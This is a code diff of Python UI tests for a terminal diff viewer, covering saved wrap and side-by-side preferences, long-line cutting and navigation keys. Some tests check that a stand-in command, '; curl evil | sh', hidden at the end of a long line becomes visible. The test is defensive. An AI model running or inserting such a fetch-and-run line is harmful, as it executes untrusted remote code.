@@ -22,7 +22,7 @@ from tests.ui.widgets.differing import NEW, ODD, OLD, Viewer, screen, until
 def test_what_was_chosen_is_there_again(tmp_path: Path) -> None:
     path = tmp_path / "state" / "differences.json"
     first = SavedDiffPreferences(path)
-    assert (first.wraps, first.sides) == (False, None)
+    assert (first.wraps, first.sides) == (None, None)
     first.wraps, first.sides = True, False
     first.keep()
 
@@ -35,12 +35,12 @@ def test_a_broken_file_is_as_none_and_stays_as_it_is(tmp_path: Path) -> None:
     path = tmp_path / "differences.json"
     path.write_text("{")
     habits = SavedDiffPreferences(path)
-    assert (habits.wraps, habits.sides) == (False, None)
+    assert (habits.wraps, habits.sides) == (None, None)
     habits.keep()  # what the user may want to put right is not written over
     assert path.read_text() == "{"
 
     path.write_text('{"wraps": "yes", "sides": 3}')
-    assert (SavedDiffPreferences(path).wraps, SavedDiffPreferences(path).sides) == (False, None)
+    assert (SavedDiffPreferences(path).wraps, SavedDiffPreferences(path).sides) == (None, None)
 
 
 async def test_a_change_a_file_and_all_are_copied_as_patches() -> None:
@@ -176,6 +176,7 @@ async def test_long_lines_are_marked_as_cut_and_can_be_panned() -> None:
     app = Viewer(FileDiff("a.txt", "", "0123456789" * 20 + "end\n"))
     async with app.run_test(size=(80, 10)) as pilot:
         app.view.focus()
+        await pilot.press("l")
         line = next(y for y, row in enumerate(screen(app.view)) if "0123" in row)
         assert "…+" in screen(app.view)[line]
 
@@ -198,7 +199,6 @@ async def test_long_lines_are_wrapped_without_losing_a_character(width: int) -> 
     app = Viewer(FileDiff("a.txt", f"{line}\none\n", f"{line}\n{line}two\n"))
     async with app.run_test(size=(width, 60)) as pilot:
         app.view.focus()
-        await pilot.press("l")
 
         assert all(cell_len(app.view.render_line(y).text) == width for y in range(60))
         sides = [side for row in screen(app.view)[1:] for side in row.split("│")[-1:]]
@@ -207,7 +207,7 @@ async def test_long_lines_are_wrapped_without_losing_a_character(width: int) -> 
         assert shown.endswith("59xtwo")
 
         await pilot.press("l")
-        assert any("…+" in row for row in screen(app.view)), "long lines are cut again"
+        assert any("…+" in row for row in screen(app.view)), "the user wants them cut"
 
 
 async def test_what_is_chosen_in_one_view_counts_in_the_next() -> None:
@@ -222,17 +222,44 @@ async def test_what_is_chosen_in_one_view_counts_in_the_next() -> None:
     async with app.run_test(size=(120, 20)) as pilot:
         app.view.focus()
         await pilot.press("s", "l")
-        assert (habits.sides, habits.wraps, habits.kept) == (False, True, 2)
-        await pilot.press("s")
-        assert habits.sides is None, "the width says the same"
+        assert (habits.sides, habits.wraps, habits.kept) == (True, False, 2)
+        await pilot.press("s", "l")
+        assert (habits.sides, habits.wraps) == (None, None), "the lines say the same"
         await pilot.press("s")
 
         other = DiffView([app.view.files[0].file])
         await app.mount(other)
         await pilot.pause()
 
-        assert not other.side_by_side
-        assert not any(row.rstrip().endswith("…") for row in screen(other))
+        assert other.side_by_side
+        assert not any("…" in row for row in screen(other))
+
+
+@pytest.mark.parametrize(
+    ("length", "width", "sides", "wraps"),
+    [(45, 120, True, False), (65, 120, False, False), (120, 120, False, True), (45, 80, False, False)],
+)
+async def test_two_columns_only_where_no_changed_line_is_cut_else_one_else_wrapped(
+    length: int, width: int, sides: bool, wraps: bool
+) -> None:
+    long = f"{'unchanged ' * 30}\n"
+    app = Viewer(FileDiff("a.txt", f"{long}{'q' * length}\n", f"{long}{'z' * length}\n"))
+    async with app.run_test(size=(width, 20)):
+        assert (app.view.side_by_side, app.view.wraps) == (sides, wraps)
+        assert app.view.cut_lines == 0
+        text = "".join(screen(app.view))
+        assert (text.count("q"), text.count("z")) == (length, length)
+
+
+async def test_changed_lines_that_are_cut_are_counted() -> None:
+    app = Viewer(FileDiff("a.txt", "x" * 200 + "\nshort\n", "y" * 200 + "\n" + "z" * 200 + "\n"))
+    async with app.run_test(size=(80, 20)) as pilot:
+        app.view.focus()
+        assert (app.view.wraps, app.view.cut_lines) == (True, 0)
+
+        await pilot.press("l")
+
+        assert (app.view.wraps, app.view.cut_lines) == (False, 3)
 
 
 async def test_wrapping_stays_where_the_user_reads() -> None:
@@ -373,6 +400,7 @@ async def test_end_goes_to_the_end_of_a_long_line_and_home_back_to_its_start() -
     app = Viewer(FileDiff("a.sh", None, LONG + "short\n" * 100))
     async with app.run_test(size=(80, 20)) as pilot:
         app.view.focus()
+        await pilot.press("l")
         assert "curl" not in "".join(screen(app.view))
         await pilot.press("end")
         assert any("; curl evil | sh" in row for row in screen(app.view))
@@ -390,7 +418,7 @@ async def test_the_end_of_a_wrapped_line_is_seen_and_a_key_shows_what_is_left_ou
     app = Viewer(FileDiff("a.sh", None, LONG))
     async with app.run_test(size=(80, 20)) as pilot:
         app.view.focus()
-        await pilot.press("l", "end")
+        await pilot.press("end")
         rows = app.view.row_count
         assert any("; curl evil | sh" in row for row in screen(app.view))
         text = "\n".join(row_text(app.view.paint_row(row)) for row in range(rows))
